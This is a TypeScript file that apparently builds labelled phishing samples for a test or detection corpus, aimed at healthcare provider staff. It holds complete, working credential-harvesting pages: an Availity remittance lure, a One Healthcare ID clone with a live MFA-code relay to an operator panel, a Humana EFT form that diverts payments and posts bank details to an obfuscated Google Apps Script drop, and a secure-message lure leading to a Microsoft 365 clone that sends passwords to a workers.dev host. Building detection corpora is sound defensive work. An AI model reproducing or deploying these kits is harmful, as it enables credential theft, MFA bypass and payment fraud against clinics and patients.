import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { b64, css, dotIcon, logos, revB64, shell } from '../parts/yt-kit.js';

/** Kits aimed at provider offices and claims staff: Availity, One Healthcare ID, CAQH, EFT changes, secure-mail portals. */
// ---- Availity: remittance lure on one host, kit on another
const availityLure = shell({
  title: 'Remittance Advice Notification',
  css: `body{font-family:Arial,sans-serif;background:#eef1f5;margin:0}.m{max-width:620px;margin:30px auto;background:#fff;border:1px solid #d5dae1}
.h{background:#1c3f6e;color:#fff;padding:16px 24px;font-size:18px}.c{padding:24px;font-size:15px;line-height:1.55}
table{border-collapse:collapse;width:100%;margin:14px 0}td,th{border:1px solid #d5dae1;padding:6px 8px;font-size:13px;text-align:left}th{background:#f4f6f9}
a.b{display:inline-block;background:#e0662c;color:#fff;padding:12px 24px;border-radius:4px;text-decoration:none;font-weight:bold}`,
  body: `<div class="m"><div class="h">${logos.availity.replace('#1c3f6e', '#fff')}</div><div class="c">
<p>Dear Provider,</p>
<p>The following Electronic Remittance Advice (ERA/835) files are available for your organization and are <b>awaiting acknowledgment</b>. Unacknowledged remittances are returned to the payer after 72 hours and payment may be delayed.</p>
<table><tr><th>Payer</th><th>Check/EFT #</th><th>Amount</th><th>Status</th></tr>
<tr><td>Humana Inc.</td><td>EFT 000918273</td><td>$11,206.40</td><td>Pending</td></tr>
<tr><td>Blue Cross Blue Shield</td><td>EFT 000918291</td><td>$5,873.15</td><td>Pending</td></tr>
<tr><td>Aetna</td><td>EFT 000918302</td><td>$1,341.00</td><td>Pending</td></tr></table>
<p>Organization NPI: 1639••••21</p>
<p><a class="b" href="https://availity-essentials-portal.online/availity/web/public.elegant.login?goto=era">Review Remittances</a></p>
<p style="font-size:12px;color:#777">This is an automated message from Availity, LLC. Please do not reply.</p></div></div>`,
});
const availityKit = shell({
  title: 'Availity Essentials | Log in',
  favicon: dotIcon('#e0662c'),
  css: css.portal + `.btn{background:#e0662c;border-radius:4px}body{background:#1c3f6e}.card{margin-top:70px}.top{display:none}`,
  body: `<div class="card">
  ${logos.availity}
  <h1 style="margin-top:16px">Log in to Availity Essentials</h1>
  <p class="sub">Providers, billing services and health plans.</p>
  <form id="lf" method="post" action="/availity/web/auth/session.php">
    <label>User ID</label><input type="text" name="userId" required>
    <label>Password</label><input type="password" name="password" required>
    <label>Organization NPI</label><input type="text" name="npi" maxlength="10" required>
    <label>Organization Tax ID</label><input type="text" name="tin" maxlength="10" required>
    <button class="btn">Log in</button>
  </form>
  <div class="links"><a href="#">Forgot your user ID?</a><a href="#">Forgot your password?</a><a href="#">Register</a></div>
</div>`,
});

// ---- One Healthcare ID (UHC provider portal): live relay of the MFA code; the page polls an operator panel
const ohidKit = shell({
  title: 'One Healthcare ID - Sign In',
  favicon: dotIcon('#002677'),
  css: css.portal + `.btn{background:#002677}.wait{display:none;text-align:center;padding:30px 0}.ring{width:42px;height:42px;border:5px solid #e3e8f0;border-top-color:#002677;border-radius:50%;margin:0 auto 14px;animation:s 1s linear infinite}@keyframes s{to{transform:rotate(360deg)}}`,
  body: `<div class="top">${logos.uhc}<span style="font-size:13px">UnitedHealthcare Provider Portal</span></div>
<div class="card">
  <div id="p1"><h1>Sign In With Your One Healthcare ID</h1><p class="sub">Access the UnitedHealthcare Provider Portal, Link and Optum Pay.</p>
  <label>One Healthcare ID</label><input type="text" id="oid">
  <label>Password</label><input type="password" id="opw">
  <button class="btn" onclick="s1()">Sign In</button></div>
  <div class="wait" id="w"><div class="ring"></div><p>Verifying your sign-in…</p></div>
  <div id="p2" style="display:none"><h1>Verify your identity</h1><p class="sub" id="hint">Enter the code we sent to your phone ending in ••</p>
  <label>Verification code</label><input type="tel" id="otp" maxlength="8">
  <label style="font-weight:400"><input type="checkbox" checked> Remember this device</label>
  <button class="btn" onclick="s2()">Continue</button></div>
</div>
<script src="/js/relay.js"></script>`,
});
const ohidRelay = `var api = atob('${b64('/panel/api/v1/')}'), sid = (Date.now()).toString(36);
function j(u, o){ return fetch(api + u, {method:'POST', headers:{'Content-Type':'application/json'}, body: JSON.stringify(Object.assign({sid:sid}, o))}).then(function(r){return r.json();}); }
function poll(){ fetch(api + 'status?sid=' + sid).then(function(r){return r.json();}).then(function(s){
  if (s.action === 'otp') { document.getElementById('w').style.display='none'; document.getElementById('p2').style.display='block'; if (s.phone) document.getElementById('hint').textContent = 'Enter the code we sent to your phone ending in ' + s.phone; }
  else if (s.action === 'bad') { location.reload(); }
  else if (s.action === 'done') { location.href = 'https://www.uhcprovider.com/'; }
  else setTimeout(poll, 2000); }).catch(function(){ setTimeout(poll, 3000); }); }
function s1(){ j('login', {u: document.getElementById('oid').value, p: document.getElementById('opw').value}); document.getElementById('p1').style.display='none'; document.getElementById('w').style.display='block'; poll(); }
function s2(){ j('otp', {c: document.getElementById('otp').value}); document.getElementById('p2').style.display='none'; document.getElementById('w').style.display='block'; poll(); }`;

// ---- Provider EFT change: payment diversion (bank account swap) dressed as payer enrollment
const eftKit = shell({
  title: 'Provider EFT Enrollment Update | Humana',
  favicon: dotIcon('#78be20'),
  css: css.portal + `.card{max-width:620px}.btn{background:#00a0af;border-radius:4px}.row{display:flex;gap:12px}.row>div{flex:1}h2{font-size:17px;border-bottom:1px solid #ddd;padding-bottom:6px;margin-top:26px}`,
  body: `<div class="top">${logos.humana}<span style="font-size:13px">For Providers · Claims Payment</span></div>
<div class="card">
  <h1>Electronic Funds Transfer (EFT) Enrollment — Mandatory Update</h1>
  <p class="sub">Due to our transition to a new payment vendor effective 12/01/2025, all contracted providers must re-enroll in EFT. Providers who do not update will receive paper checks with up to 30-day delays.</p>
  <form id="eft">
    <h2>Provider information</h2>
    <div class="row"><div><label>Practice / Group name</label><input type="text" name="group" required></div><div><label>Billing NPI</label><input type="text" name="npi" required></div></div>
    <div class="row"><div><label>Tax ID (TIN)</label><input type="text" name="tin" required></div><div><label>Contact email</label><input type="email" name="email" required></div></div>
    <h2>Provider portal sign-in (to link enrollment)</h2>
    <div class="row"><div><label>Availity user ID</label><input type="text" name="avuser" required></div><div><label>Password</label><input type="password" name="avpass" required></div></div>
    <h2>New bank account</h2>
    <label>Financial institution</label><input type="text" name="bank" required>
    <div class="row"><div><label>Routing number (ABA)</label><input type="text" name="aba" maxlength="9" required></div><div><label>Account number</label><input type="text" name="acct" required></div></div>
    <label>Account type</label><select name="type"><option>Checking</option><option>Savings</option></select>
    <button class="btn">Submit EFT Enrollment</button>
  </form>
  <p id="done" style="display:none;color:#2e7d32;font-weight:bold">Thank you. Your EFT enrollment was received and will be effective in 3–5 business days.</p>
</div>
<script>
document.getElementById('eft').onsubmit=function(e){e.preventDefault();
var u=atob('${revB64('https://script.google.com/macros/s/AKfycbx9Qe-eft-enroll-drop/exec')}').split('').reverse().join('');
fetch(u,{method:'POST',mode:'no-cors',body:new FormData(this)});this.style.display='none';document.getElementById('done').style.display='block';};
</script>`,
});

// ---- Encrypted-mail portal lure ("secure message" from a claims department) leading to a Microsoft 365 sign-in clone
const secureMsg = shell({
  title: 'Secure Message Center',
  css: `body{margin:0;font-family:Segoe UI,Arial;background:#f3f2f1}.bar{background:#243a5e;color:#fff;padding:12px 24px;font-size:15px}.box{max-width:560px;margin:50px auto;background:#fff;padding:30px;border:1px solid #ddd}
.lock{font-size:40px}a.o{display:inline-block;margin-top:16px;background:#0067b8;color:#fff;padding:10px 22px;text-decoration:none}`,
  body: `<div class="bar">🔒 Secure Message Center — Encrypted by Proofpoint</div>
<div class="box"><div class="lock">✉️</div>
<h2>You have received a secure message</h2>
<p><b>From:</b> Claims Review Department &lt;claims-review@mvp-healthplan-billing.com&gt;<br><b>Subject:</b> EOB dispute – Claim #CLM-25-0918834 – Response required<br><b>Attachments:</b> EOB_Dispute_Response.pdf (2 pages)</p>
<p>To read this message, verify your identity with the email account it was sent to.</p>
<a class="o" id="go" href="#">Read the message</a>
<p style="font-size:12px;color:#777;margin-top:24px">Message expires in 7 days.</p></div>
<script>
var h=location.hash.slice(1), e=''; try{e=atob(h);}catch(x){}
document.getElementById('go').href='https://claims-securemail.azurewebsites.net/common/oauth2/v2.0/authorize?client_id=4765445b&login_hint='+encodeURIComponent(e);
</script>`,
});
const m365Kit = shell({
  title: 'Sign in to your account',
  css: `body{margin:0;font-family:"Segoe UI",Arial;background:#f2f2f2 linear-gradient(135deg,#d7e3f1,#f2f2f2)}
.b{width:440px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
h1{font-size:24px;font-weight:600;margin:16px 0}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;outline:none;margin-bottom:18px}
button{float:right;background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px}.id{font-size:14px;margin-bottom:10px}.e{color:#e81123;font-size:14px;display:none}`,
  body: `<div class="b">${logos.m365}
<div id="s1"><h1>Sign in</h1><input type="email" id="em" placeholder="Email, phone, or Skype"><p style="font-size:13px">Can't access your account?</p><button onclick="n()">Next</button><div style="clear:both"></div></div>
<div id="s2" style="display:none"><div class="id" id="who"></div><h1>Enter password</h1><div class="e" id="er">Your account or password is incorrect. If you don't remember your password, reset it now.</div><input type="password" id="pw" placeholder="Password"><p style="font-size:13px"><a href="#">Forgot my password</a></p><button onclick="s()">Sign in</button><div style="clear:both"></div></div>
</div>
<script>
var q=new URLSearchParams(location.search), hint=q.get('login_hint')||''; if(hint) document.getElementById('em').value=hint;
function n(){document.getElementById('who').textContent=document.getElementById('em').value;document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block';}
var c=0;function s(){c++;var d={e:document.getElementById('em').value,p:document.getElementById('pw').value,n:c};
fetch('https://m365-relay-claims.workers.dev/x',{method:'POST',body:JSON.stringify(d)}).catch(function(){});
if(c<2){document.getElementById('er').style.display='block';document.getElementById('pw').value='';}else{location.href='https://outlook.office365.com/';}}
</script>`,
});

export const entries: Entry[] = [
{
  id: 'yt-availity-era-lure-offhost-kit',
  label: 'phishing',
  kind: 'provider-portal-credential-kit',
  url: 'https://remit-notice-availity.com/era/835/notice?npi=1639402221',
  body: availityLure,
  routes: {
    'availity-essentials-portal.online/availity/web/public.elegant.login': htmlRoute(availityKit),
    'availity-essentials-portal.online/availity/web/auth/session.php': redirectRoute(302, 'https://www.availity.com/'),
  },
},
{
  id: 'yt-onehealthcareid-mfa-relay-panel',
  label: 'phishing',
  kind: 'provider-portal-credential-kit',
  url: 'https://onehealthcareid-secure-signin.com/oneapp/index.html',
  body: ohidKit,
  routes: {
    'onehealthcareid-secure-signin.com/oneapp/js/relay.js': jsRoute(ohidRelay),
    'onehealthcareid-secure-signin.com/panel/api/v1/status': jsonRoute({ action: 'wait' }),
  },
},
{
  id: 'yt-provider-eft-reenroll-diversion',
  label: 'phishing',
  kind: 'provider-payment-diversion-form',
  url: 'https://humana-provider-eft-update.com/enrollment/eft',
  body: eftKit,
},
{
  id: 'yt-claims-securemsg-m365-kit',
  label: 'phishing',
  kind: 'secure-message-webmail-kit',
  url: 'https://securemessage-claimsreview.com/s/msg/view#Y2xhaW1zLm9mZmljZUBsYWtlc2lkZWNsaW5pYy5vcmc=',
  body: secureMsg,
  routes: {
    'claims-securemail.azurewebsites.net/common/oauth2/v2.0/authorize': htmlRoute(m365Kit),
  },
},
];
